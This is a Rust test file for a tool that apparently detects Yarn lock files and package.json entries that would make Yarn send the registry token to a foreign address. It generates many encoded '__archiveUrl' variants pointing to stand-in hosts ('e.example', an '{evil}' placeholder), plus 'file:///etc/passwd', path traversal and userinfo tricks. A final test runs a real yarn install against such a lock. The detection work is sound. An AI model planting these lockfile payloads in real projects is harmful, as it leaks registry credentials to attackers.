//! Yarn's lock file names addresses to which Yarn takes the registry's token: each is told, however it is written, and none
//! of the registry's own.

use super::projects::attack_all;
use super::settings::{PLAIN, TLS};
use super::{PROJECT, Project, told_of};

/// The text as `encodeURIComponent` writes it.
fn encoded(text: &str) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-_.!~*'()".contains(&byte);
    text.bytes().map(|byte| if plain(byte) { char::from(byte).to_string() } else { format!("%{byte:02X}") }).collect()
}

fn lock(resolution: &str) -> String {
    format!(
        "# This file is generated\n\n__metadata:\n  version: 10\n  cacheKey: 10c0\n\n\"ours@workspace:.\":\n  version: 0.0.0-use.local\n  \
         resolution: \"ours@workspace:.\"\n  dependencies:\n    ok: \"npm:1.0.0\"\n  languageName: unknown\n  linkType: soft\n\n\
         \"ok@npm:1.0.0\":\n  version: 1.0.0\n  resolution: {resolution}\n  languageName: node\n  linkType: hard\n"
    )
}

/// How the parameter's name may be written: each letter encoded, small and large.
fn names() -> Vec<String> {
    let name = "__archiveUrl";
    let mut all = vec![name.to_owned(), name.bytes().map(|byte| format!("%{byte:02x}")).collect()];
    for (place, letter) in name.char_indices() {
        for digits in [format!("%{:02X}", u32::from(letter)), format!("%{:02x}", u32::from(letter))] {
            all.push(format!("{}{digits}{}", &name[..place], &name[place + 1..]));
        }
    }
    all
}

/// Addresses that are none of the registry's packages.
fn elsewhere(url: &str) -> Vec<String> {
    let host = url.split_once("//").unwrap().1;
    let below = format!("{url}/artifactory/api/npm/npm/");
    let mut all: Vec<String> = [
        "http://e.example/ok.tgz",
        "https://e.example/",
        "hTTp://e.example/",
        "http:\\\\e.example/",
        " http:e.example/",
        "/ok.tgz",
        "/../../ok.tgz",
        "//e.example/ok.tgz",
        "file:///etc/passwd",
        "",
    ]
    .map(str::to_owned)
    .into();
    all.push(format!("{url}.e.example/"));
    all.push(format!("{url}@e.example/"));
    all.push(format!("http://{host}%2F@e.example/"));
    all.push(below.replacen("npm/npm/", "npm/npmx/", 1));
    all.push(below.replacen("://", "://e@", 1));
    all.push(format!(" {below}"));
    all.push(below.to_uppercase());
    all
}

#[test]
fn every_address_of_a_locked_package_is_told_however_it_is_written_and_the_registrys_own_are_not() {
    let mut tried = 0;
    let silent = |url: &str, text: &str| told_of("yarn-berry", url, &[("yarn.lock", text)]);
    for url in [PLAIN, TLS] {
        for (number, name) in names().into_iter().enumerate() {
            for address in elsewhere(url) {
                let encoded_address = format!("ok@npm:1.0.0::{name}={}", encoded(&address));
                let among = format!("ok@npm:1.0.0::a=b&{name}={}&c=d", encoded(&address));
                let scoped = format!("@acme/ok@npm:1.0.0::{name}={}", encoded(&address));
                let patched =
                    format!("ok@patch:{}#./p.patch::version=1.0.0", encoded(&encoded_address).replacen("%40", "@", 1));
                let twice = format!("ok@patch:{}#./p.patch", encoded(&patched));
                // The name is as it is, or encoded, in the first two; the others show each of its letters.
                let shapes = if number < 2 {
                    vec![encoded_address, among, scoped, patched, twice]
                } else {
                    vec![encoded_address]
                };
                for resolution in shapes {
                    let told = silent(url, &lock(&format!("\"{resolution}\"")));
                    assert_eq!(told.len(), 1, "{url}: {resolution}: {told:?}");
                    assert!(told[0].contains("yarn.lock, line ") && !told[0].contains("e.example"), "{told:?}");
                    tried += 1;
                }
            }
        }
        // Ways of YAML, and what is not looked at as YAML either.
        let plain = "ok@npm:1.0.0::__archiveUrl=http%3A%2F%2Fe.example%2F";
        for resolution in [
            plain.to_owned(),
            format!("'{plain}'"),
            format!("\"{}\"", plain.replace("__", "\\x5f\\u005F")),
            format!("\"{}\"", plain.replace("__", "_\\\n    _")),
            format!(">-\n    {plain}"),
            format!("&a {plain}"),
        ] {
            let told = silent(url, &lock(&resolution));
            assert!(!told.is_empty(), "{resolution}");
            tried += 1;
        }
        assert!(!silent(url, "<<<<<<< ours\n__metadata:\n  version: 8\n=======\n>>>>>>> theirs\n").is_empty());
        let own = format!("{url}/artifactory/api/npm/npm/@acme/ok/-/ok-1.0.0.tgz");
        let encoded_address = format!("ok@npm:1.0.0::__archiveUrl={}", encoded(&own));
        let patched = format!("ok@patch:{}#./p.patch", encoded(&encoded_address));
        for resolution in [&format!("ok@npm:1.0.0::__archiveUrl={own}"), &encoded_address, &patched, "ok@npm:1.0.0"] {
            assert_eq!(silent(url, &lock(&format!("\"{resolution}\""))), Vec::<String>::new(), "{resolution}");
        }
        // Yarn 1's own, whose addresses Yarn takes no token to.
        let first =
            "# yarn lockfile v1\n\n\nok@1.0.0:\n  version \"1.0.0\"\n  resolved \"http://e.example/ok.tgz#0\"\n";
        assert_eq!(silent(url, first), Vec::<String>::new());
    }
    println!("{tried} locked packages");
    assert_eq!(tried, 2 * (2 * 17 * 5 + 24 * 17 + 6));
}

#[test]
fn an_address_in_a_packages_range_and_a_platforms_in_a_lock_of_yarn_1_is_told() {
    let mut tried = 0;
    for url in [PLAIN, TLS] {
        let own = format!("{url}/artifactory/api/npm/npm/@acme/ok/-/ok-1.0.0.tgz");
        let silent = |file: &str, text: &str| told_of("yarn-berry", url, &[(file, text)]);
        let range = |address: &str| format!("npm:1.0.0::__archiveUrl={}", encoded(address));
        type Holder = fn(&str) -> String;
        let holders: [(&str, Holder); 7] = [
            ("package.json", |range| format!(r#"{{"resolutions": {{"ok": "{range}"}}}}"#)),
            ("package.json", |range| format!(r#"{{"resolutions": {{"a/**/ok@npm:1": "{range}"}}}}"#)),
            ("package.json", |range| format!(r#"{{"dependencies": {{"ok": "{range}"}}}}"#)),
            ("package.json", |range| format!(r#"{{"devDependencies": {{"ok": "npm:@acme/ok@{range}"}}}}"#)),
            ("package.json", |range| format!(r#"{{"resolutions": {{"ok": "{}"}}}}"#, range.replace('_', "\\u005f"))),
            ("packages/a/package.json", |range| format!(r#"{{"optionalDependencies": {{"ok": "{range}"}}}}"#)),
            (".yarnrc.yml", |range| {
                format!("packageExtensions:\n  \"a@*\":\n    dependencies:\n      ok: \"{range}\"\n")
            }),
        ];
        for (file, holder) in holders {
            for address in elsewhere(url) {
                let told = silent(file, &holder(&range(&address)));
                assert_eq!(told.len(), 1, "{file}: {address}: {told:?}");
                assert!(told[0].contains(file) && !told[0].contains("e.example"), "{told:?}");
                tried += 1;
            }
            assert_eq!(silent(file, &holder(&range(&own))), Vec::<String>::new(), "{file}");
            assert_eq!(silent(file, &holder("npm:1.0.0")), Vec::<String>::new(), "{file}");
        }
        // Yarn looks for the platform's name in the whole address.
        for resolved in [
            "https://acme.jfrog.io/artifactory/api/npm/npm/@acme/ok/-/@acme/ok-1.0.0.tgz#0",
            "http://acme.jfrog.io/artifactory/api/npm/npm/@acme/ok/-/@acme/ok-1.0.0.tgz",
            "http://e.example/x.jfrog.io/y/@acme/ok/-/@acme/ok-1.0.0.tgz#0",
            "http://e.example\\u002f.jfrog.io/@acme/ok/-/@acme/ok-1.0.0.tgz#0",
        ] {
            for lock in [
                format!(
                    "# yarn lockfile v1\n\n\n\"@acme/ok@1.0.0\":\n  version \"1.0.0\"\n  resolved \"{resolved}\"\n"
                ),
                format!(
                    "#\tYarn Lockfile v1\n\n\"@acme/ok@1.0.0\":\n  \"resolved\" \"{resolved}\"\n  version \"1.0.0\"\n"
                ),
                format!("\"@acme/ok@1.0.0\":\n  version: 1.0.0\n  resolved: \"{resolved}\"\n"),
            ] {
                let told = silent("yarn.lock", &lock);
                assert_eq!(told.len(), 1, "{lock}: {told:?}");
                tried += 1;
            }
        }
    }
    assert_eq!(tried, 2 * (7 * 17 + 4 * 3));
    let platform = "https://acme.jfrog.io";
    let own = format!("{platform}/artifactory/api/npm/npm/@acme/ok/-/@acme/ok-1.0.0.tgz");
    let lock = format!("# yarn lockfile v1\n\n\n\"@acme/ok@1.0.0\":\n  version \"1.0.0\"\n  resolved \"{own}#0\"\n");
    assert_eq!(told_of("yarn-berry", platform, &[("yarn.lock", &lock)]), Vec::<String>::new(), "the registry's own");
}

#[test]
fn yarn_takes_the_token_to_the_address_of_a_locked_package() {
    const LOCK: &str = "__metadata:\n  version: 10\n  cacheKey: 10c0\n\n\"ours@workspace:.\":\n  version: 0.0.0-use.local\n  \
         resolution: \"ours@workspace:.\"\n  dependencies:\n    ok: \"npm:1.0.0\"\n  languageName: unknown\n  linkType: soft\n\n\
         \"ok@npm:1.0.0\":\n  version: 1.0.0\n  resolution: \"ok@npm:1.0.0::__archiveUrl=http%3A%2F%2F{evil}%2Fok.tgz\"\n  \
         languageName: node\n  linkType: hard\n";
    let berry = Project {
        manager: "yarn-berry",
        program: "yarn-berry",
        hostile: &[
            ("yarn.lock", LOCK),
            ("package.json", r#"{"name":"ours","version":"1.0.0","dependencies":{"ok":"1.0.0"}}"#),
        ],
        script: "export YARN_ENABLE_TELEMETRY=0\ncd \"$HOME/project\"\nyarn-berry install",
        applied_is_told: true,
        ..PROJECT
    };
    attack_all(&[berry], 4);
}
